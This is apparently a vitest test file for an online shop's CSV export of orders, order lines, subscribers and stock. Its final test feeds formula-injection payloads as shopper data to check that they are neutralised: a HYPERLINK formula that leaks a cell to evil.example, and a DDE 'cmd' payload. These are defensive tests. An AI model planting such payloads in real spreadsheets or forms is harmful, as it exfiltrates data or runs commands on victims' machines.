/** Exports: the content of the files, and that they are safe to open. */
import { beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { orders, refunds, subscribers } from '#db/schema/index.ts';
import { password } from '../support/accounts.ts';
import { operatorWithPassword } from '../support/desk.ts';
import { insertOrder, lastMoment, requestExport, tableOf } from '../support/exports.ts';
import { refillStock, serum, toner } from '../support/orders.ts';
import { countRows } from '../support/rows.ts';
import { type Person, useShop } from '../support/shop.ts';

const shop = useShop();
let operator: Person;

beforeAll(async () => {
  operator = await operatorWithPassword(shop);
});
beforeEach(async () => {
  await refillStock(shop.db);
  await shop.db.write.delete(orders);
  await shop.db.write.delete(subscribers);
});

const ask = (over: object = {}) => requestExport(operator, over);

test('a file of orders: rupees, Indian time, and text that spreadsheets must not convert', async () => {
  const id = await insertOrder(shop.db, {}, { city: 'बेंगलुरु' });
  await shop.db.write
    .insert(refunds)
    .values({ id, orderId: id, amount: 10_050, reason: 'returned', status: 'done', createdAt: lastMoment });
  const { status, headers, text } = await ask({ from: '2026-11-20', to: '2026-11-20' });
  expect(status).toBe(200);
  expect(Object.fromEntries(headers)).toMatchObject({
    'content-type': 'text/csv; charset=utf-8',
    'content-disposition': 'attachment; filename="orders-2026-11-20-to-2026-11-20.csv"',
    'cache-control': 'no-store',
    'x-content-type-options': 'nosniff',
    'export-count': '1',
    'export-total': '1',
  });
  expect(headers.has('export-next')).toBe(false);
  expect(tableOf(text)).toEqual([
    {
      Order: expect.stringMatching(/^ORD-\d{6}$/),
      'Placed (Indian time)': '2026-11-20 23:59:59',
      Status: 'Delivered',
      Paid: 'yes',
      'Payment method': 'Cash on Delivery',
      Pieces: '2',
      'Subtotal (₹)': '948.00',
      'Discount (₹)': '94.80',
      Code: 'MONSOON-10',
      'Delivery (₹)': '49.00',
      'Total (₹)': '902.20',
      'Sent back (₹)': '100.50',
      Name: 'Asha Rao',
      Phone: '9876543210',
      Email: 'asha@example.in',
      Address: '1 MG Road',
      City: 'बेंगलुरु',
      State: 'Karnataka',
      Pincode: '560001',
      Courier: 'Delhivery',
      'Tracking number': "'0014523698741",
      Sample: 'no',
    },
  ]);
});

test('the file begins with the byte order mark that Excel needs, and every row ends with CRLF', async () => {
  await insertOrder(shop.db);
  const response = await fetch(`${shop.stack.url}/api/desk/export`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', token: operator.token },
    body: JSON.stringify({ sheet: 'orders', from: '2026-01-01', to: '2026-12-31', password }),
  });
  const bytes = Buffer.from(await response.arrayBuffer());
  expect(bytes.subarray(0, 3).toString('hex')).toBe('efbbbf');
  expect(bytes.toString().match(/\r\n/g)).toHaveLength(2);
  expect(bytes.toString().endsWith('\r\n')).toBe(true);
});

test('a row for each line, with its share of the discount', async () => {
  const id = await insertOrder(shop.db);
  const rows = tableOf((await ask({ sheet: 'lines' })).text);
  const known = { Paid: 'yes', State: 'Karnataka', Sample: 'no', Status: 'Delivered' };
  expect(rows).toEqual([
    expect.objectContaining({
      ...known,
      Product: serum,
      Name: 'Glow Serum',
      Pieces: '1',
      'Amount (₹)': '539.10',
    }),
    expect.objectContaining({
      ...known,
      Product: toner,
      Name: 'Rose "Balance", 100 ml',
      'Price each (₹)': '349.00',
      'Discount (₹)': '34.90',
      'Amount (₹)': '314.10',
    }),
  ]);
  expect(new Set(rows.map((row) => row.Order)).size).toBe(1);
  expect(id).toBeTruthy();
});

test('newsletter: current subscribers by time of subscription', async () => {
  const rows: [string, string, number | null][] = [
    ['late@example.in', '2026-11-21T00:00:00+05:30', null],
    ['early@example.in', '2026-11-20T23:59:59+05:30', null],
    ['gone@example.in', '2026-11-20T12:00:00+05:30', lastMoment],
  ];
  await shop.db.write.insert(subscribers).values(
    rows.map(([email, when, unsubscribedAt]) => ({
      email,
      createdAt: Date.parse(when),
      unsubscribedAt,
      token: `secret ${email}`,
    })),
  );
  const { text } = await ask({ sheet: 'subscribers' });
  expect(tableOf(text)).toEqual([
    { Email: 'early@example.in', 'Subscribed (Indian time)': '2026-11-20 23:59:59' },
    { Email: 'late@example.in', 'Subscribed (Indian time)': '2026-11-21 00:00:00' },
  ]);
  expect(text).not.toContain('secret');
  expect(tableOf((await ask({ sheet: 'subscribers', to: '2026-11-20' })).text)).toHaveLength(1);
});

test('stock: every product as it is now', async () => {
  const { text, headers } = await ask({ sheet: 'stock', from: '2026-11-21', to: '2026-11-21' });
  expect(headers.get('content-disposition')).toBe('attachment; filename="stock-2026-11-21.csv"');
  const rows = tableOf(text);
  expect(rows).toHaveLength(await countRows(shop.db, 'products'));
  expect(rows.find(({ Product }) => Product === serum)).toMatchObject({
    'Price incl. GST (₹)': '599.00',
    'MRP (₹)': '999.00',
    'In stock (pieces)': '100',
    'Sold now': 'yes',
  });
});

describe('a period', () => {
  test.each([
    ['2026-11-20', '2026-11-20', 1],
    ['2026-11-21', '2026-11-21', 0],
    ['2026-11-01', '2026-11-19', 0],
    ['2020-01-01', '2030-01-01', 1],
  ])('%s to %s, both days in it by Indian time: %d', async (from, to, count) => {
    await insertOrder(shop.db);
    const { status, headers, text } = await ask({ from, to });
    expect([status, headers.get('export-total'), tableOf(text).length]).toEqual([200, String(count), count]);
  });

  test('a forged cursor from before the period returns nothing from before it', async () => {
    await insertOrder(shop.db);
    const { headers } = await ask({ from: '2026-11-21', after: '0.x' });
    expect(headers.get('export-count')).toBe('0');
  });
});

test('shoppers’ text is complete in the file, and never a formula', async () => {
  const hostile = {
    firstName: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    lastName: 'Rao',
    address: '@SUM(A1:A9)\r\n=1+1',
    city: '\t=1+1',
    state: '"',
    zipcode: '-560001',
    phone: '+91 98765 43210',
    email: "=cmd|' /C calc'!A0",
  };
  await insertOrder(shop.db, { trackingId: ' "+1', courier: '＝1' }, hostile);
  const [row] = tableOf((await ask()).text);
  expect(row).toMatchObject({
    Name: `'${hostile.firstName} Rao`,
    Address: `'${hostile.address}`,
    City: `'${hostile.city}`,
    State: '"',
    Pincode: `'${hostile.zipcode}`,
    Phone: `'${hostile.phone}`,
    Email: `'${hostile.email}`,
    'Tracking number': `' "+1`,
    Courier: `'＝1`,
  });
});
